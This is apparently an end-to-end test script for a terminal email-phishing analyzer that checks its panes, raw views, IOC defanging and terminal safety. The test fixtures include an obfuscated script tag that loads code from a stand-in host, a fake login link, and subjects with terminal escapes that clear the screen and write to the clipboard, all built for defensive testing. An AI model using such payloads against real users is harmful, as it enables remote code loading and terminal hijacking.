#!/bin/sh
# The workbench as a person sees it: the real binary in a private tmux
# server (send-keys, capture-pane).  Panes and their content for samples,
# navigation, finding -> jump, help, zoom, raw view (source, escapes,
# highlight, limits), inner message, save,
# hostile subject, NO_COLOR, resize and the small-terminal message, the
# message list, the no-terminal refusal and the terminal restored on exit.
# Needs KENSA (the binary's absolute path); run from anywhere.
set -u
: "${KENSA:?set KENSA to the kensa binary}"
cd "$(dirname "$0")/../.."
export LC_ALL=C.UTF-8 LANG=C.UTF-8
unset KENSA_THEME NO_COLOR
TMPD=$(mktemp -d "${TMPDIR:-/tmp}/kensa-tui.XXXXXX")
export XDG_CONFIG_HOME="$TMPD/config" XDG_CACHE_HOME="$TMPD/cache"
SOCK_BASE=kensa-test-$$
. tests/tui/lib/tmux.sh

# highlighted NAME TEXT OTHER: the screen line holding TEXT is drawn
# highlighted (reverse video or a background colour, read from the SGR codes
# `capture-pane -e` keeps) and the first line holding OTHER is not; polled
# like wait_for, since a slow (ASan) build draws the view before its highlight
highlighted() {
	i=0
	while [ $i -lt $((T * 10)) ]; do
		lit_as_said "$2" "$3" >/dev/null && break
		sleep 0.1
		i=$((i + 1))
	done
	if lit_as_said "$2" "$3"; then ok "$1"; else bad "$1" "highlight"; screen | sed 's/^/  | /'; fi
}
lit_as_said() { # TEXT OTHER
	tm capture-pane -p -e | python3 -c '
import re, sys
text, other = sys.argv[1], sys.argv[2]
sgr = re.compile(r"\x1b\[([0-9;]*)m")
def lit(line):  # each printable character with the (reverse, bg) in force
    global rev, bg
    out, pos = [], 0
    for m in sgr.finditer(line):
        out += [(c, rev or bg) for c in line[pos:m.start()]]
        ps = [int(x) if x else 0 for x in m.group(1).split(";")]
        i = 0
        while i < len(ps):
            p = ps[i]
            if p == 0: rev, bg = False, False
            elif p == 7: rev = True
            elif p == 27: rev = False
            elif 40 <= p <= 47 or 100 <= p <= 107: bg = True
            elif p == 49: bg = False
            elif p in (38, 48):
                if p == 48: bg = True
                i += 2 if i + 1 < len(ps) and ps[i + 1] == 5 else 4
            i += 1
        pos = m.end()
    return out + [(c, rev or bg) for c in line[pos:]]
rev = bg = False
lines = [lit(l) for l in sys.stdin.read().split("\n")]
def state(t):
    for l in lines:
        s = "".join(c for c, _ in l)
        if t in s:
            return l[s.index(t)][1]
    print("not on screen:", t); sys.exit(1)
if not state(text): print("not highlighted:", text); sys.exit(1)
if state(other): print("highlighted too:", other); sys.exit(1)
' "$1" "$2"
}

# ---- the panes on the Japanese CEO-fraud sample
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
expect panes_headers_title "1 Headers ("
expect panes_routing_title "2 Routing ("
expect panes_attachments_title "3 Attachments ("
expect panes_findings_title_focused "[4 Findings ("
expect panes_body_title "5 Body ("
# the titles count what each pane lists (issue #14), never its screen rows:
# the numbers kensa analyze gives for the same message
counts=$("$KENSA" analyze samples/ceo_fraud_ja.eml --format json | python3 -c '
import json, sys
d = json.load(sys.stdin)
def parts(a): return 1 + sum(parts(c) for c in a.get("children") or [])
print(len(d["headers"]), len(d["hops"]), sum(parts(a) for a in d["attachments"]),
      len(d["findings"]), len(d["body"]["links"]))')
set -- $counts
expect panes_headers_count "1 Headers ($1)"
expect panes_routing_counts_hops "2 Routing ($2)"
expect panes_attachments_counts_parts "3 Attachments ($3)"
expect panes_findings_counts_findings "[4 Findings ($4)]"
expect panes_body_counts_links "5 Body ($5 link"
if screen | sed -n 1p | grep -qF '【至急・極秘】買収案件について'; then ok summary_japanese_subject_decoded
else bad summary_japanese_subject_decoded "subject not on the first line"; fi
expect summary_from_name_and_address 'From: 代表取締役社長 山田 太郎 <ceo-office@hoshizora-denk0.co.jp>'
expect summary_score_and_bec "BEC:"
expect headers_identity_first "Reply-To    山田 太郎 <taro.yamada.ceo@freemail.example>"
expect routing_hop_delay_and_auth "SPF pass  DKIM none  DMARC none"
expect findings_high_first "HIGH   a sender-side domain looks like"
expect findings_evidence "hoshizora-denk0.co.jp looks like"
expect body_text "お疲れさまです。山田です。"
aligned japanese_rows_align 120 2 38

# ---- navigation
keys 2; expect digit_jumps_to_pane "[2 Routing ("
keys Tab; expect tab_next_pane "[3 Attachments ("
keys BTab; expect shift_tab_previous_pane "[2 Routing ("
keys l; expect l_pane_to_the_right "[5 Body ("
keys h; expect h_pane_to_the_left "[2 Routing ("
keys 4; expect digit_back_to_findings "[4 Findings ("

# ---- Enter on a finding: its whole evidence, the rule and its place
keys Enter
expect finding_detail_opens "Finding"
expect finding_detail_rule "identity.lookalike_domain"
expect finding_detail_fires_when "fires when:"
expect finding_detail_place "place: header:From"
keys q
# ---- o on a finding: jump, the lookalike finding is about header:From
keys o
expect finding_jumps_to_header "[1 Headers ("
expect finding_jump_says_where "→ header:From"

# ---- help overlay from the key table
keys '?'
expect help_overlay_shows "kensa workbench keys"
expect help_lists_shift_tab "Shift-Tab"
expect help_lists_zoom "zoom the pane to full screen"
# n and N are the next and previous match everywhere (as in mutt, tig and
# less); a note (a memo) is m
expect help_message_n_is_next_match "  n                  next match"
expect help_message_m_is_note "  m                  message, case: write a note"
keys q
expect_gone help_closes_with_q "kensa workbench keys"
expect help_returns_to_panes "5 Body ("

# ---- zoom
keys 4 z
expect_gone zoom_hides_other_panes "1 Headers ("
expect zoom_keeps_focused_pane "[4 Findings ("
keys z
expect zoom_toggles_back "1 Headers ("

# ---- raw view: the source as it came, the selected header highlighted
keys 1 j r
expect raw_view_opens "Raw source"
# the hint line is generated from the key map: keys next to what they do there
expect raw_view_hints_from_keymap "q back  Up Down scroll  PgUp PgDn page  g G ends"
keys '?'
expect help_in_pager_n_is_next_match "  n                  next match"
keys q
expect raw_view_shows_encoded_words "Subject: =?ISO-2022-JP?B?"
expect raw_view_escapes_iso2022_esc '\x1B$B'
highlighted raw_view_highlights_reply_to "Reply-To: =?ISO-2022-JP?B?" "From: =?ISO-2022-JP?B?"
keys / 'return-path:' Enter
expect raw_view_search_scrolls_up "Raw source  1-"
expect raw_view_search_finds "Return-Path: <ceo-office@hoshizora-denk0.co.jp>"
keys q
expect raw_view_q_returns "[1 Headers ("

# ---- Enter on a header shows it whole; G/g and PgDn/PgUp move in a pane
keys 1 g Enter
expect enter_on_header_opens_details "Headers  1-"
keys q
expect_gone details_close_with_q "Headers  1-"
keys G
expect bottom_of_headers_pane "Subject: 【至急・極秘】"
keys g PageDown PageUp
expect pgdn_pgup_stay_in_pane "[1 Headers ("

# ---- search in a pane
keys 5 / 'hello-not-there' Enter
expect search_reports_no_match "not found in Body"
keys / '送金' Enter
expect_gone search_match_found "not found in Body"
# n repeats the search (it used to start a note here)
keys n
expect_gone search_n_is_next_match "Note on"
expect_gone search_n_finds_again "not found in Body"

# ---- Enter on a row that shows all it has opens nothing
keys 5 g Enter
sleep 0.4
if screen | grep -q "Body  1-"; then bad enter_on_whole_row_does_nothing "a detail opened"
else ok enter_on_whole_row_does_nothing; fi

# ---- copy: the selected address, defanged, via OSC 52 and shown
keys 1 g y
expect copy_defangs_and_shows "copied (OSC 52): ceo-office[@]hoshizora-denk0[.]co[.]jp"

# ---- resize: 200x50 -> 80x24 -> below -> back
tm resize-window -x 200 -y 50
expect resize_large_redraws "5 Body ("
sleep 0.3
aligned resize_large_aligned 200 2 48
tm resize-window -x 80 -y 24
sleep 0.3
expect resize_80x24_redraws "[1 Headers ("
aligned resize_80x24_aligned 80 2 22
tm resize-window -x 70 -y 20
expect resize_small_asks_for_room "needs at least 80×24"
tm resize-window -x 120 -y 40
expect resize_back_redraws "1 Headers ("

# ---- quit restores the terminal and exits 0
keys q
expect quit_exits_zero "kensa-exit=0"
expect_gone quit_restores_screen "1 Headers ("

# ---- a hop's raw view: the Received header it was read from (hop 0, the
# origin, is the last one; hop 1 the one above it).  The pane's first rows
# are the authentication summary and the column titles: the hop is found
# by its address.
start 120 40 "$KENSA" samples/routing_reversed.eml
wait_for "2 Routing (" >/dev/null
keys 2 / 10.1.2.3 Enter r
highlighted raw_view_origin_hop_is_last_received "Received: from DESKTOP-8K2M1QF" "Received: from relay.mailhost.example"
keys q j r
highlighted raw_view_next_hop_is_the_one_above "Received: from smtp.kogane-parts.co.jp" "Received: from DESKTOP-8K2M1QF"
keys q q

# ---- SIGTERM restores the terminal too
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
if wait_for "1 Headers ("; then
	pid=$(pgrep -P "$(tm display -p '#{pane_pid}')" | head -1)
	[ -n "$pid" ] && kill -TERM "$pid"
	expect sigterm_exits_with_status "kensa-exit=143"
	expect_gone sigterm_restores_screen "1 Headers ("
else
	bad sigterm_exits_with_status "workbench did not start"
fi

# ---- d / x: an attachment's decoded bytes as text (an HTML page as the body
# shows it) and as hex, in the pager
start 120 40 "$KENSA" samples/phishing_html_login.eml
expect decoded_view_base "[4 Findings ("
keys 3 g d
expect decoded_html_as_text "Part 2, HTML as text"
expect decoded_html_visible_text "サインイン"
keys q x
expect decoded_hex_view "Part 2, hex"
expect decoded_hex_line "00000000  3c 21 44 4f 43 54 59 50"
keys q q

# ---- d again: the next decoded view of a part: a PDF's text and its link
# annotations, an HTML page's script as the analyzer decodes it
{
	printf 'From: a@example.net\nTo: b@example.org\nSubject: views\nMIME-Version: 1.0\n'
	printf 'Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/plain\n\nsee attached\n'
	printf -- '--B\nContent-Type: application/pdf; name=invoice.pdf\nContent-Transfer-Encoding: base64\n\n'
	base64 tests/fixtures/pdf/links_and_launch.pdf
	printf -- '--B\nContent-Type: text/html; name=login.html\nContent-Transfer-Encoding: 8bit\n\n'
	printf '<html><body><p>Loading</p><script>document.write(%s);</script></body></html>\n' \
		"'<scr' + 'ipt src=\"https://cdn.evil-example.net/k.js\"></scr' + 'ipt>'"
	printf -- '--B--\n'
} > "$TMPD/views.eml"
start 120 40 "$KENSA" "$TMPD/views.eml"
expect views_base "[4 Findings ("
keys 3 g d
expect views_pdf_text_first "Part 2, PDF text (1/"
keys d
expect views_pdf_links "Part 2, PDF links (2/"
expect views_pdf_link_uri "page 1  link  URI https://login.evil-example.com/o365?id=42"
expect views_pager_hint "d next view"
keys q j j d
expect views_html_page_first "Part 3, HTML as text (1/3)"
keys d
expect views_script_layer "Part 3, Script, de-obfuscated (2/3)"
expect views_script_decoded '<script src="https://cdn.evil-example.net/k.js">'
keys d
expect views_hex_last "Part 3, hex (3/3)"
keys d
expect views_cycle_back "Part 3, HTML as text (1/3)"
keys q q

# a PDF built to make a reader spin (forms drawing forms, 40 deep): its text
# is read in the analysis helper, which stops at its CPU budget, and the
# view says so
python3 -c '
import importlib.util, sys
spec = importlib.util.spec_from_file_location("tb", "tests/e2e/test_bounds.py")
tb = importlib.util.module_from_spec(spec); spec.loader.exec_module(tb)
sys.stdout.buffer.write(tb.mail_with([("nested.pdf", "application/pdf", tb.pdf_nested_forms())]))
' > "$TMPD/nested.eml"
start 120 40 "$KENSA" "$TMPD/nested.eml"
expect views_budget_base "[4 Findings ("
keys 3 g d
expect views_budget_title "Part 2, PDF text not shown (1/"
expect views_budget_says "Reading it stopped at its CPU budget of 2.0 s."
keys q q

# the same message from the case list: the list reads no analysis context,
# the panes read it (with the analyst's budgets, here 1 s) when the views
# first need it
KENSA_DB="$TMPD/views.db" "$KENSA" case new "Views" >/dev/null
KENSA_DB="$TMPD/views.db" "$KENSA" case add 1 "$TMPD/nested.eml" >/dev/null 2>&1
start 120 40 "KENSA_DB=$TMPD/views.db KENSA_ATTACHMENT_CPU_SECONDS=1" "$KENSA"
expect views_case_list "1 case"
keys Enter
expect views_case_view "Case 1: Views"
keys Enter
expect views_case_message "[4 Findings ("
keys 3 g d
expect views_case_budget_says "Reading it stopped at its CPU budget of 1.0 s."
keys q q q q

# ---- i: the IOC pane, every indicator with its role, defanged; y / Y copy
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
expect ioc_view_base "[4 Findings ("
keys i
count=$("$KENSA" analyze samples/ceo_fraud_ja.eml --format json | python3 -c 'import json,sys; print(len(json.load(sys.stdin)["iocs"]))')
expect ioc_pane_counts "IOCs ($count)"
expect ioc_pane_role_and_defanged "attacker  domain    hoshizora-denk0[.]co[.]jp"
keys j y
expect ioc_copy_defanged "copied (OSC 52): hoshizora-denk0[.]co[.]jp"
keys Y
expect ioc_copy_as_is "copied as is (OSC 52)"
keys q
expect ioc_pane_closes "[4 Findings ("
keys q

# ---- a in the IOC pane: the indicator into the message's case as the
# attacker's, the analyst's word (the message is added to a case first)
export KENSA_DB="$TMPD/ioc-cases.db"
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
expect ioc_case_base "[4 Findings ("
keys i
expect ioc_case_hint "a to case as attacker's"
keys j a
expect ioc_case_offers_to_add "This message is in no case yet. Add it to one?"
keys y
expect ioc_case_picker "Add to which case?"
keys Enter Enter
expect ioc_case_judged "hoshizora-denk0[.]co[.]jp is in case 1 as the attacker's, now judged so by"
keys q q
cli_has ioc_case_show_judged "hoshizora-denk0[.]co[.]jp  (judged by" "$KENSA" case show 1
# Esc at the offer: nothing is written
start 120 40 "$KENSA" samples/ceo_fraud_en.eml
expect ioc_case_esc_base "[4 Findings ("
keys i a
expect ioc_case_esc_offer "Add it to one?"
keys Escape
expect ioc_case_esc_nothing "nothing saved"
keys q q
rows=$("$KENSA" case list | tail -n +2 | wc -l)
if [ "$rows" = 1 ]; then ok ioc_case_esc_no_case; else bad ioc_case_esc_no_case "$rows cases"; fi
unset KENSA_DB

# ---- |: the message on the standard input of a shell command (mutt's pipe)
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
expect pipe_view_opens "[4 Findings ("
keys '|'
expect pipe_asks_command "Pipe the message to:"
keys 'wc -c' Enter
expect pipe_command_output "$(wc -c <samples/ceo_fraud_ja.eml | tr -d ' ')"
expect pipe_waits_for_enter "press Enter to return"
keys Enter
expect pipe_returns_with_status "pipe: wc -c exited 0"
expect pipe_screen_back "[4 Findings ("
keys q

# ---- kensa -: the mail on standard input, the keys from the terminal
printf '#!/bin/sh\ncat samples/ceo_fraud_ja.eml | TMPDIR="%s" "%s" -\n' "$TMPD" "$KENSA" >"$TMPD/stdin.sh"
chmod +x "$TMPD/stdin.sh"
start 120 40 "$TMPD/stdin.sh"
expect stdin_message_opens "[4 Findings ("
expect stdin_subject_decoded "【至急・極秘】買収案件について"
keys q
expect stdin_quits_zero "kensa-exit=0"
if ls "$TMPD"/kensa-stdin-* >/dev/null 2>&1; then bad stdin_copy_removed "left in $TMPD"
else ok stdin_copy_removed; fi

# ---- a TERM curses does not know: one line saying so, exit 2 (not 1, a finding's)
start 120 20 env TERM=no-such-terminal "$KENSA" samples/ceo_fraud_ja.eml
expect unknown_term_says_so 'unknown terminal type "no-such-terminal"'
expect unknown_term_exits_2 "kensa-exit=2"

# ---- Ctrl-C restores the terminal
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
if wait_for "1 Headers ("; then
	keys C-c
	expect sigint_exits_130 "kensa-exit=130"
	expect_gone sigint_restores_screen "1 Headers ("
else
	bad sigint_exits_130 "workbench did not start"
fi

# ---- one clock (issue #14): the list shows every Date in the analyst's zone
# (TZ, a POSIX rule here so no zone database is needed) and says which
start 120 40 env TZ=JST-9 "$KENSA" samples/mailbox.mbox
expect list_names_its_zone "DATE (+09:00)"
# ceo_fraud_en was written at 08:02:40 +00:00: 17:02 on a Tokyo clock
expect list_time_in_analysts_zone "2024-12-12 17:02  Taro Yamada"
keys q
# --tz picks the clock whatever TZ says: the same message at 08:02 UTC
start 120 40 env TZ=JST-9 "$KENSA" --tz UTC samples/mailbox.mbox
expect list_tz_option_names_zone "DATE (UTC)"
expect list_tz_option_time "2024-12-12 08:02  Taro Yamada"
keys q
start 120 40 "$KENSA" --tz Mars/Olympus samples/mailbox.mbox
expect list_bad_tz_exits_2 "kensa-exit=2"
# the hop's detail: every field, its time as written and on the analyst's clock
start 160 40 env TZ=JST-9 "$KENSA" samples/invoice_lookalike_thread.eml
keys 2 G Enter
expect hop_detail_has_year_and_zone "date: 2024-12-11 09:12:48 +09:00 (as written)"
expect hop_detail_local_clock "2024-12-11 09:12:48 +09:00 (your clock)"
expect hop_detail_rdns_not_the_helo "rdns: vps-77.cloudhost.example (not the HELO name)"
expect hop_detail_tls_when_none_said "tls: -"
keys q q

# ---- the routing pane as Message Header Analyzer lays out its hop table:
# a summary (SPF, DKIM, DMARC, Received-SPF, ARC, the route's total delay),
# the column titles, one row per hop; a narrow pane drops columns (rDNS,
# TLS, protocol first), never the IP.
# column_at NAME TITLE ROW VALUE: in the row holding ROW, VALUE starts at
# the screen column where TITLE starts in the column titles (" #  delay")
column_at() {
	if screen | python3 -c '
import sys, unicodedata
title, row, value = sys.argv[1], sys.argv[2], sys.argv[3]
lines = sys.stdin.read().split("\n")
def cols(s):
    return sum(0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)
head = next((l for l in lines if " #  delay" in l and title in l), None)
hop = next((l for l in lines if row in l and value in l), None)
if head is None or hop is None:
    print("titles or row not on screen"); sys.exit(1)
want = cols(head[:head.index(title, head.index(" #  delay"))])
got = cols(hop[:hop.index(value)])
if got != want:
    print("%r at column %d, %r at %d" % (value, got, title, want)); sys.exit(1)
' "$2" "$3" "$4"; then ok "$1"; else bad "$1" "column"; screen | sed 's/^/  | /'; fi
}
start 80 40 env TZ=JST-9 "$KENSA" samples/routing_reversed.eml
expect routing_80_summary_auth "SPF pass  DKIM pass  DMARC pass"
expect routing_80_summary_total "Received-SPF -  ARC -  total +4s"
expect routing_80_column_titles " #  delay  from (HELO)      IP"
column_at routing_80_ip_column "IP" "!#1 -3h59m" "192.0.2.60"
column_at routing_80_delay_column "delay" "!#1" "-3h59m"
if screen | grep -q "rDNS\|TLS"; then bad routing_80_drops_rdns_and_tls "still shown"
else ok routing_80_drops_rdns_and_tls; fi
fits routing_80_rows_fit 80
keys q
start 160 40 env TZ=JST-9 "$KENSA" samples/routing_reversed.eml
expect routing_160_summary_one_row "SPF pass  DKIM pass  DMARC pass  Received-SPF -  ARC -  total +4s"
expect routing_160_column_titles " #  delay  from (HELO)          IP         by                   time"
column_at routing_160_ip_column "IP" "!#1 -3h59m" "192.0.2.60"
column_at routing_160_by_column "by" "!#1 -3h59m" "relay.mailhost"
column_at routing_160_time_column "time" "!#1 -3h59m" "12-12 10:02:13"
# zoomed, the pane has room for every column
keys 2 z
expect routing_zoom_every_column "rDNS"
column_at routing_zoom_tls_column "TLS" " #2 +4h00m" "yes (ESMTPS)"
column_at routing_zoom_with_column "with" "!#1" "ESMTP "
column_at routing_zoom_ip_column "IP" " #0 " "10.1.2.3"
keys q
# the analyst's cue: the receiver's reverse DNS is not the name given in HELO
start 160 40 "$KENSA" samples/benign_control.eml
keys 2 z
expect routing_rdns_differs_marked "≠ pc-takahashi.office.hoshizora-denko"
column_at routing_rdns_column "rDNS" " #0 " "≠ pc-takahashi"
keys q
# hostile names: wide and combining characters keep the columns aligned
python3 -c '
import sys
lines = ["Received: from mx.example.net (mx.example.net [192.0.2.9]) by mx.example.org"
         " with ESMTPS id A1; Thu, 12 Dec 2024 05:02:15 +0000",
         "Received: from \u30e1\u30fc\u30eb\u9001\u4fe1\u30b5\u30fc\u30d0\u30fc.example"
         " (e\u0301\u0301vil.example [198.51.100.5]) by mx.example.net with ESMTP id B2;"
         " Thu, 12 Dec 2024 05:02:10 +0000",
         "From: a@example.com", "To: b@example.org", "Subject: wide",
         "Date: Thu, 12 Dec 2024 05:02:00 +0000", "", "hello", ""]
open(sys.argv[1], "wb").write("\r\n".join(lines).encode())
' "$TMPD/wide_helo.eml"
start 160 40 env TZ=UTC "$KENSA" "$TMPD/wide_helo.eml"
keys 2 z
expect routing_wide_helo_shown "メール送信サーバー.example"
column_at routing_wide_ip_column "IP" " #0 " "198.51.100.5"
column_at routing_wide_by_column "by" " #0 " "mx.example.net "
aligned routing_wide_rows_aligned 160 2 38
keys q

# ---- a dialog is a view run by the same loop: Ctrl-C in a prompt still
# ends kensa and restores the terminal, and a prompt takes 'q' as a letter
start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
if wait_for "1 Headers ("; then
	keys /
	keys q
	expect prompt_takes_q_as_text "/q"
	keys C-c
	expect sigint_in_prompt_exits_130 "kensa-exit=130"
	expect_gone sigint_in_prompt_restores_screen "1 Headers ("
else
	bad sigint_in_prompt_exits_130 "workbench did not start"
fi

# ---- an attachment holding a message opens its own panes; q returns
start 120 40 "$KENSA" samples/forwarded_rfc822.eml
expect inner_attachment_listed "suspicious.eml [message]"
keys 3 Enter
expect inner_message_opens "[inner message]"
keys r
expect inner_raw_is_decoded_view "Decoded view"
expect inner_raw_says_decoded "(decoded view: every header as decoded"
keys q
expect inner_raw_q_returns "[inner message]"
keys q
expect_gone inner_message_q_returns "[inner message]"
expect inner_outer_still_open "3 Attachments ("

# ---- finding -> jump to a part and to a hop (found with / in the pane)
start 120 40 "$KENSA" samples/invoice_lookalike_thread.eml
expect part_jump_encrypted_mark "[encrypted]"
keys / '@part:3' Enter o
expect finding_jumps_to_part "→ part:3"
expect finding_part_focuses_attachments "[3 Attachments ("
# raw view of an attachment part: its header block through its last line
keys g r
expect raw_part_opens "Raw source"
highlighted raw_part_highlights_its_content_type "Content-Type: application/pdf;" "------=_NextPart_KS_invoice_0002"
highlighted raw_part_highlights_its_body "Content-Transfer-Encoding: base64" "------=_NextPart_KS_invoice_0002"
keys q
start 120 40 "$KENSA" samples/routing_reversed.eml
expect hop_marked_suspicious "!#1"
keys / '@hop:1' Enter o
expect finding_jumps_to_hop "→ hop:1"
expect finding_hop_focuses_routing "[2 Routing ("
# hop 1 is the second Received header from the bottom
keys r
expect raw_hop_opens "Raw source"
highlighted raw_hop_highlights_its_received "Received: from smtp.kogane-parts.co.jp" "Received: from relay.mailhost.example"
highlighted raw_hop_highlights_folded_lines " by relay.mailhost.example with ESMTP" "Received: from DESKTOP-8K2M1QF"
keys q

# ---- save an attachment: decoded bytes, mode 0600, says where
start 120 40 "$KENSA" samples/invoice_thread_original.eml
mkdir -p "$TMPD/out"
if wait_for "3 Attachments ("; then
	keys 3 s
	expect save_prompts_for_directory "Save to directory:"
	keys C-u "$TMPD/out" Enter
	expect save_says_where "saved 997 bytes to $TMPD/out/"
	f=$(ls "$TMPD/out" | head -1)
	want=$("$KENSA" analyze --format json samples/invoice_thread_original.eml |
		python3 -c 'import json,sys; print(json.load(sys.stdin)["attachments"][0]["sha256"])')
	got=$(sha256sum "$TMPD/out/$f" 2>/dev/null | cut -d' ' -f1)
	if [ -n "$f" ] && [ "$got" = "$want" ]; then ok save_content_is_decoded_part
	else bad save_content_is_decoded_part "sha256 $got, report says $want"; fi
	mode=$(stat -c %a "$TMPD/out/$f" 2>/dev/null)
	if [ "$mode" = 600 ]; then ok save_mode_0600; else bad save_mode_0600 "mode $mode"; fi
	keys s C-u "$TMPD/out" Enter
	expect save_never_overwrites "$f.1"
else
	bad save_prompts_for_directory "workbench did not start"
fi

# ---- a hostile subject shows as visible escapes and clears nothing
start 120 40 "$KENSA" samples/hostile_subject.eml
expect hostile_subject_escapes_visible '請求書の件 \x1B[2J\x1B]52;c;'
expect hostile_screen_not_cleared "1 Headers ("
expect hostile_rest_of_subject_drawn "2 Routing ("
keys r
expect hostile_raw_not_decoded "Subject: =?UTF-8?B?6KuL5rGC5pu444Gu5Lu2IBtbMkobXQ==?="
expect hostile_raw_body_as_sent "=1B[31m=E9=87=8D=E8=A6=81=1B[0m"
# raw bytes that would drive the terminal (ESC, OSC 52, BEL) and 8-bit
# Shift_JIS in a header: visible escapes, nothing decoded, nothing cleared
printf 'From: a@example.com\nSubject: \033[2J\033]52;c;aGk=\007 \220\277\213\201\217\221\n\tfolded\tline\n\nbody\n' >"$TMPD/raw8bit.eml"
start 120 40 "$KENSA" "$TMPD/raw8bit.eml"
wait_for "1 Headers ("
keys r
expect raw_escapes_esc_and_osc 'Subject: \x1B[2J\x1B]52;c;aGk=\x07 \x90\xBF\x8B\x81\x8F\x91'
expect raw_tabs_as_spaces ' folded line'
expect raw_screen_not_cleared "Raw source"
# big messages: 50,000 lines at most, a line over 2,000 bytes cut
python3 -c '
import sys
sys.stdout.write("From: a@example.com\nSubject: big\n\n" + "x" * 5000 + "\n")
sys.stdout.write("".join("line %d\n" % i for i in range(60000)))
' >"$TMPD/big.eml"
start 120 40 "$KENSA" "$TMPD/big.eml"
wait_for "1 Headers ("
keys r
expect raw_long_line_cut "⟪line cut: 3000 more bytes⟫"
keys G
expect raw_limit_said_at_end "⟪only the first 50000 of 60004 lines are shown⟫"
expect raw_limit_last_line_kept "line 49995"

# ---- NO_COLOR: mono theme, no colour codes on screen
start 120 40 env NO_COLOR=1 "$KENSA" samples/ceo_fraud_ja.eml
expect no_color_runs "[4 Findings ("
if tm capture-pane -p -e | grep -qE '\[(3|4)[0-7]m|[;[](38|48);5;|;(3|4)[0-7][m;]'; then
	bad no_color_has_no_colours "colour escapes on screen"
else ok no_color_has_no_colours; fi
start 120 40 env KENSA_THEME=dark "$KENSA" samples/ceo_fraud_ja.eml
expect kensa_theme_env_dark "[4 Findings ("
if screen | grep -qF 'using the default'; then bad kensa_theme_dark_loads "theme error shown"
else ok kensa_theme_dark_loads; fi
start 120 40 "$KENSA" --theme high-contrast samples/ceo_fraud_ja.eml
expect theme_option_high_contrast "[4 Findings ("
start 120 40 "$KENSA" --theme no-such-theme samples/ceo_fraud_ja.eml
expect bad_theme_named_and_default_used "no-such-theme: no such theme; using the default"

# ---- the message list of an mbox
start 120 40 "$KENSA" samples/mailbox.mbox
expect list_loads_rows "17 messages,"
expect list_shows_subject "Project Orion - strictly confidential"
keys j Enter
expect list_enter_opens_message "Project Orion - strictly confidential"
expect list_message_panes "[4 Findings ("
keys q
expect list_q_returns "sorted by mailbox order"
keys Enter
expect list_selection_kept_after_return "[4 Findings ("
if screen | sed -n 1p | grep -qF 'Project Orion'; then ok list_reopens_same_message
else bad list_reopens_same_message "another message opened"; fi
# J and K: the next and previous message of the list, from inside one (mutt)
keys J
expect list_J_opens_next "[4 Findings ("
line1 list_J_next_message '【至急・極秘】買収案件について'
keys K
line1 list_K_previous_message 'Project Orion'
keys q
expect list_back_again "sorted by mailbox order"
keys S
expect list_sort_by_severity "sorted by severity"
keys D
expect list_sort_by_date "sorted by date"
keys f '請求書' Enter
expect list_filter "filter: 請求書"
expect_gone list_filter_hides_others "Project Orion"
# a filter that names a severity filters by it (the offered text is replaced)
keys f 'high' Enter
expect list_severity_filter_keeps_high "Project Orion"
expect_gone list_severity_filter_hides_clean "安全衛生委員会"
keys f 'none' Enter
expect list_severity_none_keeps_clean "安全衛生委員会"
expect_gone list_severity_none_hides_high "Project Orion"

# ---- T tags, ; a adds every tagged message to one case (mutt's tag-prefix)
start 120 40 env KENSA_DB="$TMPD/tags.db" "$KENSA" samples/mailbox.mbox
expect tag_list_loads "17 messages,"
keys T T
expect tag_marks_rows "*HIGH"
keys '\;'
expect tag_apply_prefix "; a: add the tagged messages to a case"
keys a
expect tag_apply_picker "Add to which case?"
keys Enter
expect tag_apply_title "New case title:"
keys 'Tagged batch' Enter
expect tag_apply_added "2 added, 0 already there"
cli_has tag_apply_case_holds_two "Tagged batch" env KENSA_DB="$TMPD/tags.db" "$KENSA" case list
keys q

# ---- a long load: rows show while later messages still load; q stops it
i=0
while [ $i -lt 150 ]; do cat samples/mailbox.mbox; i=$((i + 1)); done >"$TMPD/big.mbox"
start 120 40 "$KENSA" "$TMPD/big.mbox"
expect long_load_shows_progress "loading "
expect long_load_rows_while_loading "(loading)"
expect long_load_first_rows_visible "Project Orion - strictly confidential"
keys q
expect long_load_q_stops_and_exits "kensa-exit=0"

# ---- no terminal, no argument
out=$("$KENSA" samples/ceo_fraud_ja.eml </dev/null 2>&1)
rc=$?
if [ $rc -eq 2 ] && echo "$out" | grep -qF 'kensa analyze'; then ok no_terminal_exits_2_with_hint
else bad no_terminal_exits_2_with_hint "exit $rc: $out"; fi
out=$("$KENSA" </dev/null 2>&1)
rc=$?
if [ $rc -eq 2 ] && echo "$out" | grep -qF 'give a FILE or DIR'; then ok no_argument_exits_2
else bad no_argument_exits_2 "exit $rc: $out"; fi

summary
